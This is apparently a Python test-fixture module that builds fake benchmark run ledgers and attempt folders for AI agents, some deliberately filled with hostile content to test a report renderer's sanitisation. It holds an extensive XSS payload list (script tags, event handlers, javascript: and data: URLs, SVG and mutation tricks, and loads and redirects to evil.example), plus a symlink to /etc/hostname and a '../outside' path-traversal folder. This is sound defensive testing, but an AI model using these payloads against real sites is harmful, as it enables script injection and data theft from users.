"""A small run made by hand: ledger and folders as a real one leaves them, and what hostile agents might put there."""

import json
from pathlib import Path

from scribe_suite.ledger.ledger import LedgerWriter
from scribe_suite.ledger.records import RunEnd
from tests.ledger.factories import NOW, header, record

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
CANARY = "document.title='owned';document.documentElement.dataset.owned='yes'"

HOSTILE_HTML = (
    f"<script>{CANARY}</script>",
    f"<ScRiPt src='https://evil.example/x.js'></sCrIpT><SCRIPT>{CANARY}",
    f'<img src=x onerror="{CANARY}">',
    f"<img src=x:x onerror\n=\n{CANARY}//",
    f'<div onmouseover="{CANARY}" style="background:url(https://evil.example/a)">hover</div>',
    f'<a href="javascript:{CANARY}">click</a><a href="JaVa\tScRiPt:{CANARY}">x</a>',
    f'<a href="data:text/html,<script>{CANARY}</script>">data</a>',
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}"><script>{CANARY}</script></svg>',
    f'<svg><a xlink:href="javascript:{CANARY}"><text>x</text></a></svg>',
    f"<svg><style><img src=x onerror={CANARY}></style></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{CANARY}">',
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}>">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="https://evil.example/">',
    f'<iframe src="javascript:{CANARY}"></iframe><iframe srcdoc="&lt;script&gt;{CANARY}&lt;/script&gt;"></iframe>',
    f'<object data="data:text/html,<script>{CANARY}</script>"></object><embed src="https://evil.example/x.swf">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
    '<style>body{background:url("https://evil.example/z")}</style>visible',
    '<form action="https://evil.example/"><input name="q" autofocus onfocus="alert(1)"><button>go</button></form>',
    '<img src="https://evil.example/pixel.png"><img srcset="https://evil.example/2x.png 2x">',
    '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<video src="https://evil.example/v.mp4" onerror="alert(1)"></video><audio autoplay src="//evil.example/a">',
    "</div></section></main></body></html><h1>Not the report</h1><body onload=alert(1)>",
    '<table background="https://evil.example/t"><td background="https://evil.example/t2">cell</table>',
    f"<!--><img src=x onerror={CANARY}>--><![CDATA[<script>{CANARY}</script>]]><?php {CANARY} ?>",
    '<template><script>alert(1)</script></template><p id="main" class="skip" name="x" tabindex="1">p</p>',
    f"<textarea><script>{CANARY}</script></textarea><title><script>{CANARY}</script></title><xmp><b></xmp>",
    f'<details open ontoggle="{CANARY}"><summary>s</summary>x</details>',
    f'<img src=`x` alt="`" onerror={CANARY}><img """><script>{CANARY}</script>">',
    f"\x00<scr\x00ipt>{CANARY}</scr\x00ipt>&lt;script&gt;{CANARY}&lt;/script&gt;&#60;script>{CANARY}</script>",
)
HOSTILE_MARKDOWN = (
    f"[click](javascript:{CANARY}) ![x](https://evil.example/a.png) <https://evil.example/auto>",
    f"![x](javascript:{CANARY}) [x](data:text/html;base64,PHNjcmlwdD4=)",
    f'# Title\n\n<script>{CANARY}</script>\n\n<img src=x onerror="{CANARY}">',
    f"```html\n</code></pre><script>{CANARY}</script>\n```",
    f'[ref]\n\n[ref]: javascript:{CANARY} "title"',
)
HOSTILE_TEXT = f'</pre></td></table><script>{CANARY}</script><img src=x onerror="{CANARY}">\x1b[31m\x00'
HOSTILE_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{CANARY}"><script>{CANARY}</script>'
    '<image href="https://evil.example/i.png"/><rect width="40" height="40" fill="teal"/></svg>'
)


def code_cell(number, source, outputs=(), **scribe):
    return {
        "cell_type": "code",
        "id": f"cell-{number}",
        "execution_count": number,
        "metadata": {"scribe": {"status": "ok", "runs": 1, "setup": False, **scribe}},
        "source": source,
        "outputs": list(outputs),
    }


def display(**data):
    names = {"html": "text/html", "markdown": "text/markdown", "svg": "image/svg+xml", "png": "image/png",
             "plain": "text/plain", "latex": "text/latex", "javascript": "application/javascript"}  # fmt: skip
    return {"output_type": "display_data", "metadata": {}, "data": {names[name]: text for name, text in data.items()}}


def stream(text, name="stdout"):
    return {"output_type": "stream", "name": name, "text": text}


def markdown_cell(number, source):
    return {"cell_type": "markdown", "id": f"cell-{number}", "metadata": {}, "source": source}


def notebook(*cells):
    return {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def hostile_notebook():
    cells = [code_cell(n, HOSTILE_TEXT, [display(html=text, plain="p")]) for n, text in enumerate(HOSTILE_HTML, 1)]
    cells += [markdown_cell(100 + n, text) for n, text in enumerate((*HOSTILE_MARKDOWN, *HOSTILE_HTML))]
    cells.append(
        code_cell(
            900,
            "%%javascript\n" + CANARY,
            [
                display(svg=HOSTILE_SVG),
                display(javascript=CANARY, plain="text instead"),
                display(markdown=HOSTILE_MARKDOWN[0]),
                display(latex=f"$$\\href{{javascript:{CANARY}}}{{x}}$$"),
                display(png='x" onerror="' + CANARY, plain="no image"),
                display(png=PIXEL),
                stream(HOSTILE_TEXT),
                stream(HOSTILE_TEXT, "stderr"),
                {"output_type": "error", "ename": HOSTILE_TEXT, "evalue": "", "traceback": [HOSTILE_TEXT]},
            ],
            status=HOSTILE_TEXT,
            runs=2,
        )
    )
    content = notebook(*cells)
    content["metadata"] = {"title": HOSTILE_TEXT, "language_info": {"name": HOSTILE_TEXT, "pygments_lexer": "html"}}
    return content


def plain_notebook():
    table = "<table class='dataframe'><thead><tr><th></th><th>effect</th></tr></thead><tbody>" + "".join(
        f"<tr><th>a{n}.h0</th><td>{n / 7:.3f}</td></tr>" for n in range(3)
    )
    return notebook(
        code_cell(1, "model = load()\n", [stream("a warning\n", "stderr")], setup=True),
        markdown_cell(2, "## Which heads?\n\nI *patch* each of them:\n\n- one\n- two"),
        code_cell(3, "for layer in range(2):\n    print(layer)  # each", [stream("0\n1\n")]),
        code_cell(4, "effects", [display(html=table + "</tbody></table>", plain="effects")]),
        code_cell(5, "while True: pass", status="timeout", runs=2),
        code_cell(6, "1/0", [{"output_type": "error", "ename": "ZeroDivisionError", "evalue": "division by zero",
                               "traceback": ["\x1b[31mZeroDivisionError\x1b[0m: division by zero"]}]),
    )  # fmt: skip


def journal_lines(hostile=""):
    return [
        {"event": "journal", "time": 100.0, "version": 1, "notebook": "n.ipynb"},
        {"event": "session_started", "time": 100.5, "session": "s1", "origin": "new"},
        {"event": "cell_started", "time": 101.0, "cell": "cell-0", "run": 1, "kind": "agent",
         "code": "1 + 1" + hostile},
        {"event": "output", "time": 101.2, "cell": "cell-0", "run": 1, "output": stream("2" + hostile)},
        {"event": "cell_finished", "time": 101.3, "cell": "cell-0", "run": 1, "status": "ok" + hostile,
         "execution_count": 1, "seconds": 0.3},
        {"event": "cell_started", "time": 102.0, "cell": "cell-0", "run": 2, "kind": "agent", "code": "2 + 2"},
        {"event": hostile or "interrupt", "time": 103.0},
    ]  # fmt: skip


def write_attempt(runs, folder, *, content=None, answer=None, transcript=None, journal=None, prompt="# Find it"):
    path = runs / folder
    for part in ("notebooks", "results", "outputs"):
        (path / part).mkdir(parents=True)
    (path / "outputs" / "prompt.md").write_text(prompt)
    (path / "results" / "circuit_evaluation_results.json").write_text("{}\n")
    if content is not None:
        (path / "notebooks" / "n.ipynb").write_text(json.dumps(content))
    if journal is not None:
        (path / "notebooks" / "n.journal.jsonl").write_text("".join(json.dumps(line) + "\n" for line in journal))
    if answer is not None:
        (path / "outputs" / "answer.json").write_text(json.dumps(answer))
    if transcript is not None:
        (path / "outputs" / "transcript.json").write_text(json.dumps(transcript))
    return path


def nodeid(task, provider, trial):
    return f"benchmarks/circuits/test_circuits.py::test_circuit[{task.partition('/')[2]}-{provider}-t{trial}]"


def attempt(task="circuits/toy", provider="claude", trial=0, **changes):
    values = {
        "nodeid": nodeid(task, provider, trial),
        "task": task,
        "provider": provider,
        "trial": trial,
        "metrics": {"iou": 0.5, "f1": 0.75},
        "primary": "f1",
        "skill": 0.75,
        "chance": 0.25,
        "reference": 1.0,
        "pass_mark": 0.8,
        "outcome": "unsolved",
        "reason": "skill 0.750 is below the pass mark 0.8",
        "confidence": 0.6,
        "turns": 12,
        "tool_calls": 20,
        "tokens": {"input": 12000, "cached": 40000, "output": 3000},
        "cost_usd": 0.42,
        "times": {"agent_s": 75.0, "setup_s": 0.2},
        "started": NOW,
        "base_model": "circuits/toy/seed3",
        "instance_seed": 987654321,
    }
    return record(**{**values, **changes})


ANSWER = {"components": ["a0.h1", "a10.h0", "m2"], "confidence": 0.6, "nothing_found": False, "summary": "I patched."}
TRANSCRIPT = {
    "model": "a-model",
    "events": [
        {"type": "message", "role": "assistant", "text": "I look at the heads first.", "time": 1.5},
        {"type": "tool_call", "name": "execute_code", "arguments": {"session_id": "s1", "code": "print(1)"}},
        {"type": "tool_result", "content": [{"type": "text", "text": "1"}]},
    ],
}


def write_run(runs: Path, *, seed_mode="fresh", records=None, planned=(), end=True, **changes):
    """The ledger of a run with the usual attempts; their folders are written as well."""
    if records is None:
        records = usual_attempts(runs)
    ids = tuple(dict.fromkeys([*(one.nodeid for one in records), *planned]))
    path = runs / "r1.jsonl"
    run_header = header(planned=ids, seed_mode=seed_mode, run_seed=1122334455, **changes)
    writer = LedgerWriter(path, run_header)
    for one in records:
        writer.append(one)
    if end:
        writer.close(RunEnd(finished=NOW, exit_code=0))
    return path


def usual_attempts(runs):
    records = []
    for number, (task, provider) in enumerate(
        (task, provider)
        for task in ("circuits/toy", "circuits/ioi_long_name", "probes/cities")
        for provider in ("claude:opus-9", "codex", "oracle")
    ):
        for trial in range(2):
            folder = f"a{number}_{trial}"
            skill = 1.0 if provider == "oracle" else max(-0.2, 0.9 - 0.13 * number + 0.2 * trial)
            solved = skill >= 0.8
            tokens = {} if provider == "oracle" else {"input": 9000 * (number + 1), "output": 800 * (number + 1)}
            write_attempt(
                runs,
                folder,
                content=plain_notebook(),
                answer=ANSWER,
                journal=journal_lines(),
                transcript=None if provider == "oracle" else TRANSCRIPT,
                prompt=f"# Find it\n\nInstance {trial} of {task}.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
            )
            records.append(
                attempt(
                    task,
                    provider,
                    trial,
                    skill=skill,
                    metrics={"f1": 0.25 + 0.75 * skill, "iou": max(0.0, skill)},
                    outcome="solved" if solved else "unsolved",
                    reason="" if solved else "skill is below the pass mark",
                    tokens=tokens,
                    cost_usd=None if provider == "oracle" else 0.11 * (number + 1),
                    times={"agent_s": 3.0 if provider == "oracle" else 40.0 * (number + 1)},
                    folder=folder,
                    submitted=submissions_to(skill, 3.0 if provider == "oracle" else 40.0 * (number + 1), tokens),
                )
            )
    return records


def submissions_to(skill, seconds, tokens):
    """Three submissions that come to a skill in the end."""
    return [
        {
            "number": number,
            "seconds": seconds * number / 4,
            "skill": round(skill * number / 3, 3),
            "tokens": sum(tokens.values()) * number // 4 if tokens else None,
        }
        for number in (1, 2, 3)
    ]


UNSCORED = {"metrics": {}, "skill": None, "primary": None, "chance": None, "reference": None, "confidence": None}


def troubled_attempts(runs):
    """A hostile attempt, one without an answer, one lost to the infrastructure, one whose folder is gone."""
    folder = write_attempt(
        runs,
        "hostile",
        content=hostile_notebook(),
        answer={
            "components": ["a0.h1", HOSTILE_TEXT],
            "code": HOSTILE_TEXT,
            "summary": HOSTILE_TEXT,
            HOSTILE_TEXT: [1],
        },
        transcript={
            HOSTILE_TEXT: HOSTILE_TEXT,
            "events": [{"role": HOSTILE_TEXT, "content": text} for text in (*HOSTILE_HTML, HOSTILE_TEXT)],
        },
        journal=journal_lines(HOSTILE_TEXT),
        prompt="\n\n".join((*HOSTILE_MARKDOWN, *HOSTILE_HTML)),
    )
    for name in ("x.html", "x.svg", "log.jsonl", "no_ending", 'a"b.txt'):
        (folder / "outputs" / name).write_text(f"<!DOCTYPE html><script>{CANARY}</script>")
    (folder / "outputs" / "way_out.txt").symlink_to("/etc/hostname")
    write_attempt(runs, "broken", journal=None)
    (runs / "broken" / "notebooks" / "n.ipynb").write_text('{"cells": 5')
    write_attempt(runs, "killed", journal=journal_lines())
    return [
        attempt(
            provider="claude:<b>",
            folder="hostile",
            reason=HOSTILE_TEXT,
            flags=(HOSTILE_TEXT,),
            model=HOSTILE_TEXT,
            end_reason=HOSTILE_TEXT,
            interval=(0.6, 0.9),
        ),
        attempt(provider="gemini", trial=0, outcome="no_answer", folder="broken", **UNSCORED),
        attempt(
            provider="gemini",
            trial=1,
            outcome="infrastructure:kernel_start",
            reason=HOSTILE_TEXT,
            folder="killed",
            **UNSCORED,
        ),
        attempt(provider="gemini", trial=2, folder="gone"),
        attempt(provider="gemini", trial=3, folder="../outside"),
    ]
